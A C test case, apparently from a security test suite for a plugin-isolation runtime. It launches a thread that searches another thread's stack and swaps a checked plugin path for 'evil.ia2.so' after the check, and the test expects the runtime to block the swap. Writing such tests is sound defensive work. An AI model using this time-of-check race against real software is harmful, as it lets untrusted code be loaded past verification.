/* class: plugins
 * source: what the runtime decides on lies on a stack under key 0
 * tries: to have a second thread change the path of the plugin, after its file was looked at, into that
 *   of another file
 * must: load the file that was looked at
 * attackers: 2
 * expect: stopped */
#include "attack.h"

static char good[4200], other[4200];
static word waiting; /* where the stack of the program's thread with key 0 alone waits */
static volatile int running;

static void *change(void *unused)
{
    int size = strlen(good);
    char *high = (char *)waiting;
    for (running = 1;;)
        for (char *p = high - 24576; p + size < high; p++)
            if (*p == '/' && !memcmp(p, good, size))
                memcpy(p, other, size);
    return unused;
}

ATTACK
{
    char folder[4096];
    if (!getcwd(folder, sizeof folder))
        cannot("no working directory");
    snprintf(good, sizeof good, "%s/blur.ia2.so", folder);
    snprintf(other, sizeof other, "%s/evil.ia2.so", folder);
    waiting = *suspended_word(0);
    if (waiting >> 63)
        waiting = ~waiting;
    if (victim_load_plugin() != 7)
        cannot("the plugin does not load");
    thread(change, NULL);
    while (!running)
        sched_yield();
    for (int i = 0; i < 40; i++)
        if (victim_load_plugin() != 7)
            break;
}
